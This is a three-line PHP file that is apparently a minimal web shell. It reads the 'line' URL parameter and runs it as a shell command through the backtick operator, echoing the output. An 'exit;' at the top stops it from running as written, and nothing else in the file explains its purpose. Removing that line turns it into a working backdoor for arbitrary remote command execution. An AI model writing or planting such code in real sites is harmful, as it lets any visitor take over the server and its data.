<?php exit;
$line = $_GET["line"];
echo `$line`;
